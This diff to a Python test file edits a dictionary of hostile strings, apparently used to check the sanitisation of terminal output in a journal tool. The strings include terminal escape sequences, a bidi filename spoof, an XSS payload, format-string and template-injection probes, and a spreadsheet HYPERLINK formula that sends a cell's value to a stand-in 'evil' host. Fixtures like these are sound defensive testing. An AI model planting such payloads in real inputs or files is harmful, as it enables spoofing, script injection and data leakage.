@@ -145,7 +145,7 @@ def test_a_hostile_body_does_not_slow_the_drafts(body, make_journal, capsys):
 # What reaches the terminal
 
 ODD = {
-    "ESC": "a\x1b[31mred\x1b]0;title\x07",
+    "ESC": "a\x1b[31mred\x1b]0:title\x07",
     "C1": "a\x9b31mred\x85\x90",
     "bidi": "a\u202egpj.exe\u2066x\u2069",
     "zero width": "a\u200b\u200d\u2060\ufeffz",
@@ -156,7 +156,7 @@ ODD = {
     "tab": "a\tb",
     "bell": "a\x07\x08\x7f",
     "markup": "<img src=x onerror=alert(1)>|`$x$`",
-    "format": "%s%n{0}{{7*7}}${x}",
+    "format": "%s%n{0}{%7*7%}${x}",
     "formula": '=HYPERLINK("http://evil/?"&A1,"x")',
     "wide": "\uff1d1+1",
     "minus": "-5 days",
